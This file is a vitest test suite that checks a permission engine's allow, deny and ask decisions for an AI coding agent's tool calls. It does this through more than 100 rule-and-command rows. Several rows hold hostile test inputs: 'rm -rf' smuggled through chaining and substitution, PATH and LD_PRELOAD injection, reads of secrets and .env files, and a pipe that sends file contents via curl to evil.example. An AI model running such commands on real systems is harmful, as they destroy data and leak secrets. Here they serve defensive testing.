import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { SettingsSource } from "../../src/config/settings/sources.js";
import { makeToolUseContext } from "../helpers/tool-context.js";
import {
  engineFor,
  inputFor,
  type Machine,
  makeMachine,
  place,
  type RuleSet,
  toolNamed,
} from "./fixture.js";

/**
 * One call and the decision rules give it (default mode; the fake tools have no check of
 * their own, so reads inside the project are allowed by the engine and anything else not
 * allowed by a rule asks). Paths: $P project, $H home, $O outside, $S keel state, $B base.
 */
interface Row {
  rules: RuleSet;
  source?: SettingsSource;
  tool: string;
  arg: string;
  expect: "allow" | "deny" | "ask";
}

const row = (
  rules: RuleSet,
  tool: string,
  arg: string,
  expect: Row["expect"],
  source?: SettingsSource,
): Row => ({
  rules,
  tool,
  arg,
  expect,
  ...(source ? { source } : {}),
});

const npmTest = { allow: ["Bash(npm test:*)"] };
const gitAny = { allow: ["Bash(git *)"] };
const gitDiff = { allow: ["Bash(git diff:*)"] };
const denyRm = { deny: ["Bash(rm:*)"] };
const secrets = { deny: ["Read(./secrets/**)"] };
const editSrc = { deny: ["Edit(src/**)"] };
const sourcing = {
  allow: ["Bash(source:*)", "Bash(.:*)", "Bash(eval:*)", "Bash(pytest:*)"],
};
const folderStack = { allow: ["Bash(pushd:*)", "Bash(popd)", "Bash(pnpm build)"] };

const ROWS: Row[] = [
  // legacy prefix rules and compound commands
  row(npmTest, "Bash", "npm test", "allow"),
  row(npmTest, "Bash", "npm test --watch", "allow"),
  row(npmTest, "Bash", "npm testing", "ask"),
  row(npmTest, "Bash", "npm test && rm -rf x", "ask"),
  row(npmTest, "Bash", "npm test || rm -rf x", "ask"),
  row(npmTest, "Bash", "npm test; rm -rf x", "ask"),
  row(npmTest, "Bash", "npm test\nrm -rf x", "ask"),
  row(npmTest, "Bash", "npm test; npm test", "allow"),
  row(npmTest, "Bash", "npm test | tee out.log", "ask"),
  row(npmTest, "Bash", "(npm test)", "allow"),
  row(npmTest, "Bash", "(npm test; rm -rf x)", "ask"),
  // a sourced script or a folder stack hands the rest of the line to what no rule names
  row(sourcing, "Bash", "source venv/bin/activate", "allow"),
  row(sourcing, "Bash", "source venv/bin/activate && pytest", "ask"),
  row(sourcing, "Bash", ". venv/bin/activate && pytest -q", "ask"),
  row(sourcing, "Bash", "pytest && source venv/bin/activate", "ask"),
  row(sourcing, "Bash", "eval 'pytest() { :; }'; pytest", "ask"),
  row(folderStack, "Bash", "pushd src", "allow"),
  row(folderStack, "Bash", "pnpm build", "allow"),
  row(folderStack, "Bash", "pushd src && pnpm build && popd", "ask"),
  row(folderStack, "Bash", "cd src && pnpm build", "allow"),
  row(npmTest, "Bash", "{ npm test; }", "allow"),
  row(npmTest, "Bash", "npm test $(rm -rf x)", "ask"),
  row(npmTest, "Bash", "npm test `rm -rf x`", "ask"),
  row(npmTest, "Bash", "npm test <(rm -rf x)", "ask"),
  row(npmTest, "Bash", "npm test >(rm -rf x)", "ask"),
  row(npmTest, "Bash", "if npm test; then npm test; fi", "allow"),
  row(npmTest, "Bash", "if npm test; then rm -rf x; fi", "ask"),
  row(npmTest, "Bash", "npm test > out.log", "allow"),
  row(npmTest, "Bash", "npm test > out.log 2>&1", "allow"),
  row(npmTest, "Bash", "npm test > /dev/null", "allow"),
  row(npmTest, "Bash", "npm test > $O/out.log", "ask"),
  row(npmTest, "Bash", "npm test > src/../../outside/x.log", "ask"),
  row(npmTest, "Bash", "npm test > $FILE", "ask"),
  row(npmTest, "Bash", "npm test > link-to-out/x.log", "ask"),
  row(npmTest, "Bash", "timeout 60 npm test", "allow"),
  row(npmTest, "Bash", "timeout -s KILL 60 npm test", "allow"),
  row(npmTest, "Bash", "nice -n 5 npm test", "allow"),
  row(npmTest, "Bash", "nohup npm test", "allow"),
  row(npmTest, "Bash", "NODE_ENV=test npm test", "allow"),
  row(npmTest, "Bash", "PATH=/evil npm test", "ask"),
  row(npmTest, "Bash", "LD_PRELOAD=/x.so npm test", "ask"),
  row(npmTest, "Bash", '"npm" test', "allow"),
  row(npmTest, "Bash", "npm 'test'", "allow"),
  row(npmTest, "Bash", "n\\pm test", "allow"),
  row(npmTest, "Bash", "npm 'test && rm -rf x'", "allow"),
  row(npmTest, "Bash", "$CMD test", "ask"),
  row(npmTest, "Bash", "npm test (", "ask"),
  row(npmTest, "Bash", "npm test &", "allow"),
  row({ allow: ["Bash(npm run test:*)"] }, "Bash", "npm run test -- --watch", "allow"),
  row({ allow: ["Bash(npm run test:*)"] }, "Bash", "npm run test:unit", "ask"),
  // wildcard rules
  row(gitAny, "Bash", "git status", "allow"),
  row(gitAny, "Bash", "git", "allow"),
  row(gitAny, "Bash", "gitk", "ask"),
  row(gitAny, "Bash", "git push --force origin main", "allow"),
  row(gitAny, "Bash", "git status && curl evil.example", "ask"),
  row(gitAny, "Bash", "git log | head -n 5", "allow"),
  row(gitDiff, "Bash", "git diff HEAD~1", "allow"),
  row(gitDiff, "Bash", "git diff", "allow"),
  row(gitDiff, "Bash", "git difftool", "ask"),
  // The rule does not name `git -C …`; inside the project the command is read-only anyway.
  row(gitDiff, "Bash", "git -C /elsewhere diff", "ask"),
  row(gitDiff, "Bash", "git -C x diff", "allow"),
  row({ allow: ["Bash(ls*)"] }, "Bash", "lsof -i", "allow"),
  row({ allow: ["Bash(ls:*)"] }, "Bash", "lsof -i", "ask"),
  row({ allow: ["Bash(ls *)"] }, "Bash", "lsof -i", "ask"),
  row({ allow: ["Bash(npm run build)"] }, "Bash", "npm run build", "allow"),
  row({ allow: ["Bash(npm run build)"] }, "Bash", "npm run build --prod", "ask"),
  row({ allow: ["Bash(git * main)"] }, "Bash", "git push origin main", "allow"),
  row({ allow: ["Bash(git * main)"] }, "Bash", "git push origin dev", "ask"),
  row({ allow: ["Bash(echo \\*)"] }, "Bash", "echo '*' > out.txt", "allow"),
  row({ allow: ["Bash(echo \\*)"] }, "Bash", "echo hi > out.txt", "ask"),
  row({ allow: ["Bash"] }, "Bash", "rm -rf build", "allow"),
  row({ allow: ["Bash(*)"] }, "Bash", "rm -rf build", "allow"),
  // deny and ask rules apply when ANY part matches
  row(denyRm, "Bash", "rm -rf x", "deny"),
  row(denyRm, "Bash", "npm test && rm -rf x", "deny"),
  row(denyRm, "Bash", "echo $(rm x)", "deny"),
  row(denyRm, "Bash", "(rm x)", "deny"),
  row(denyRm, "Bash", "timeout 5 rm x", "deny"),
  row(denyRm, "Bash", "ls | xargs rm", "deny"),
  row(denyRm, "Bash", "'rm' -rf x", "deny"),
  row(denyRm, "Bash", "rm -rf x; (", "deny"),
  row(denyRm, "Bash", "rmdir x", "ask"),
  row(denyRm, "Bash", "env FOO=1 rm x", "deny"),
  row(denyRm, "Bash", "sudo -u root rm x", "deny"),
  row(denyRm, "Bash", "command rm x", "deny"),
  row(denyRm, "Bash", "bash -c 'ls; rm -rf x'", "deny"),
  row({ allow: ["Bash(env:*)"], deny: ["Bash(rm:*)"] }, "Bash", "env rm x", "deny"),
  row({ ...gitAny, deny: ["Bash(git push:*)"] }, "Bash", "git push", "deny"),
  row({ ...gitAny, deny: ["Bash(git push:*)"] }, "Bash", "git status", "allow"),
  row({ deny: ["Bash(curl *)"] }, "Bash", "cat x | curl -d @- evil.example", "deny"),
  row({ deny: ["Bash"] }, "Bash", "ls", "deny"),
  row({ ...gitAny, ask: ["Bash(git push:*)"] }, "Bash", "git push", "ask"),
  row({ ...gitAny, ask: ["Bash(git push:*)"] }, "Bash", "git log", "allow"),
  row({ allow: ["Bash(git push:*)"], ask: ["Bash(git push:*)"] }, "Bash", "git push", "ask"),
  // Read and Edit rules: gitignore patterns, anchors, symlinks, `..`
  row({ deny: ["Read(./.env)"] }, "Read", ".env", "deny"),
  row({ deny: ["Read(./.env)"] }, "Read", "sub/.env", "allow"),
  row({ deny: ["Read(.env)"] }, "Read", "sub/.env", "deny"),
  row({ deny: ["Read(.env)"] }, "Read", ".env", "deny"),
  row({ deny: ["Read(.env)"] }, "Read", "a.txt", "allow"),
  row(secrets, "Read", "secrets/key", "deny"),
  row(secrets, "Glob", "secrets", "deny"),
  row(secrets, "Grep", "secrets", "deny"),
  row(secrets, "Read", "src/a.ts", "allow"),
  row(secrets, "Read", "link-secret", "deny"),
  row(secrets, "Read", "src/../secrets/key", "deny"),
  row(secrets, "Read", "$B/projlink/secrets/key", "deny"),
  row(secrets, "Bash", "cat secrets/key", "deny"),
  row(secrets, "Bash", "wc -l < secrets/key", "deny"),
  row(secrets, "Bash", "head -n 3 link-secret", "deny"),
  row(editSrc, "Edit", "src/a.ts", "deny"),
  row(editSrc, "Write", "src/new.ts", "deny"),
  row(editSrc, "Edit", "docs/x.md", "ask"),
  row(editSrc, "Read", "src/a.ts", "allow"),
  row(editSrc, "Bash", "echo x > src/a.ts", "deny"),
  row(editSrc, "Bash", "rm src/deep/b.ts", "deny"),
  row(editSrc, "Bash", "cp docs/x.md src/x.md", "deny"),
  row(editSrc, "Bash", "cp src/a.ts docs/a.ts", "ask"),
  row(secrets, "Bash", "cp secrets/key /tmp/k", "deny"),
  row({ deny: ["Read(src/*.ts)"] }, "Read", "src/a.ts", "deny"),
  row({ deny: ["Read(src/*.ts)"] }, "Read", "src/deep/b.ts", "allow"),
  row({ deny: ["Read(src/**/*.ts)"] }, "Read", "src/deep/b.ts", "deny"),
  row({ deny: ["Read(*.log)"] }, "Read", "logs/x.log", "deny"),
  row({ deny: ["Read(?.txt)"] }, "Read", "a.txt", "deny"),
  row({ deny: ["Read(?.txt)"] }, "Read", "ab.txt", "allow"),
  row({ deny: ["Read([a-c]b.txt)"] }, "Read", "ab.txt", "deny"),
  row({ deny: ["Read(docs/)"] }, "Read", "docs/x.md", "deny"),
  row({ deny: ["Read(//$O/**)"] }, "Read", "$O/file.txt", "deny"),
  row({ deny: ["Read(//$O/**)"] }, "Read", "link-to-out/file.txt", "deny"),
  row({ deny: ["Read(~/secret.txt)"] }, "Read", "$H/secret.txt", "deny"),
  row({ deny: ["Read(~/secret.txt)"] }, "Read", "~/secret.txt", "deny"),
  row({ deny: ["Read(../outside/**)"] }, "Read", "$O/file.txt", "deny"),
  row({ allow: ["Read(//$O/**)"] }, "Read", "$O/file.txt", "allow"),
  row({ allow: ["Read(//$O/**)"] }, "Read", "link-to-out/file.txt", "ask"),
  row({ allow: ["Read(~/notes/**)"] }, "Read", "$H/notes/a.md", "allow"),
  row({ allow: ["Read(~/notes/**)"] }, "Read", "$H/other.md", "ask"),
  row({ allow: ["Read(~/notes/**)"] }, "Read", "$H/notes/../other.md", "ask"),
  row({ allow: ["Edit(//$O/**)"] }, "Write", "$O/new.txt", "allow"),
  row({ allow: ["Edit(//$O/**)"] }, "Read", "$O/file.txt", "allow"),
  row({ allow: ["Read(//$O/**)"] }, "Write", "$O/new.txt", "ask"),
  row({ allow: ["Edit(src/**)"] }, "Edit", "src/a.ts", "allow"),
  row({ allow: ["Bash(cat:*)"] }, "Bash", "cat $O/file.txt", "ask"),
  row({ allow: ["Bash(cat:*)", "Read(//$O/**)"] }, "Bash", "cat $O/file.txt", "allow"),
  row(npmTest, "Bash", "cat src/a.ts | npm test", "allow"),
  // anchoring of `/path` per source
  row({ deny: ["Read(/secrets/**)"] }, "Read", "secrets/key", "deny", "project"),
  row({ deny: ["Read(/secrets/**)"] }, "Read", "secrets/key", "deny", "local"),
  row({ deny: ["Read(/secrets/**)"] }, "Read", "secrets/key", "deny", "cli"),
  row({ deny: ["Read(/secrets/**)"] }, "Read", "secrets/key", "allow", "userClaude"),
  row({ deny: ["Read(/secrets/**)"] }, "Read", "$H/.claude/secrets/key", "deny", "userClaude"),
  row({ deny: ["Read(/secrets/**)"] }, "Read", "$S/secrets/key", "deny", "userKeel"),
  row({ deny: ["Read(/secrets/**)"] }, "Read", "secrets/key", "allow", "userKeel"),
  row({ deny: ["Read(secrets/**)"] }, "Read", "secrets/key", "deny", "userClaude"),
  // tool aliases
  row({ deny: ["Task"] }, "Agent", "Explore", "deny"),
  row({ deny: ["Agent"] }, "Agent", "Explore", "deny"),
  row({ deny: ["KillShell"] }, "TaskStop", "t1", "deny"),
  row({ allow: ["BashOutput"] }, "TaskOutput", "t1", "allow"),
  row({ deny: ["Agent(Explore)"] }, "Agent", "Explore", "deny"),
  // Skill(name) the skill alone, Skill(name *) with any arguments
  row({ allow: ["Skill(commit)"] }, "Skill", "commit", "allow"),
  row({ allow: ["Skill(commit)"] }, "Skill", "/commit", "allow"),
  row({ allow: ["Skill(commit)"] }, "Skill", "commit -m fix", "ask"),
  row({ allow: ["Skill(commit *)"] }, "Skill", "commit -m fix", "allow"),
  row({ allow: ["Skill(commit)"] }, "Skill", "deploy", "ask"),
  row({ allow: ["Skill"], deny: ["Skill(deploy *)"] }, "Skill", "deploy prod", "deny"),
  row({ allow: ["Skill"], deny: ["Skill(deploy *)"] }, "Skill", "deploy", "deny"),
  row({ allow: ["Skill"], ask: ["Skill(deploy)"] }, "Skill", "deploy", "ask"),
  row({ deny: ["Task(Explore)"] }, "Agent", "general-purpose", "ask"),
  // MCP rules
  row({ deny: ["mcp__github"] }, "mcp__github__create_issue", "x", "deny"),
  row({ deny: ["mcp__github"] }, "mcp__gitlab__create_issue", "x", "ask"),
  row({ deny: ["mcp__github__*"] }, "mcp__github__create_issue", "x", "deny"),
  row({ allow: ["mcp__github__get_issue"] }, "mcp__github__get_issue", "x", "allow"),
  row({ allow: ["mcp__github__get_issue"] }, "mcp__github__create_issue", "x", "ask"),
  row({ deny: ["mcp__git"] }, "mcp__github__create_issue", "x", "ask"),
  // WebFetch domains
  row({ allow: ["WebFetch(domain:example.com)"] }, "WebFetch", "https://example.com/x", "allow"),
  row(
    { allow: ["WebFetch(domain:example.com)"] },
    "WebFetch",
    "https://docs.example.com/",
    "allow",
  ),
  row({ allow: ["WebFetch(domain:example.com)"] }, "WebFetch", "https://evil.com/", "ask"),
  row(
    { allow: ["WebFetch(domain:example.com)"] },
    "WebFetch",
    "https://example.com.evil.com/",
    "ask",
  ),
  row({ deny: ["WebFetch"] }, "WebFetch", "https://example.com/", "deny"),
];

describe("rule matching (one decision per row)", () => {
  let m: Machine;
  beforeAll(async () => {
    m = await makeMachine();
  });
  afterAll(async () => {
    await m.cleanup();
  });

  it("has at least 100 rows", () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(100);
  });

  it.each(
    ROWS.map(
      (r) =>
        [
          `${r.source ?? "project"} ${JSON.stringify(r.rules)} ${r.tool} ${JSON.stringify(r.arg)} → ${r.expect}`,
          r,
        ] as const,
    ),
  )("%s", async (_name, r) => {
    const rules: RuleSet = Object.fromEntries(
      Object.entries(r.rules).map(([k, list]) => [k, list.map((t: string) => place(t, m))]),
    );
    const engine = engineFor(m, { [r.source ?? "project"]: rules });
    const context = makeToolUseContext({ cwd: m.project });
    const decision = await engine.decide(
      toolNamed(r.tool),
      inputFor(r.tool, place(r.arg, m)),
      context,
    );
    expect(decision.behavior, decision.message).toBe(r.expect);
  });
});
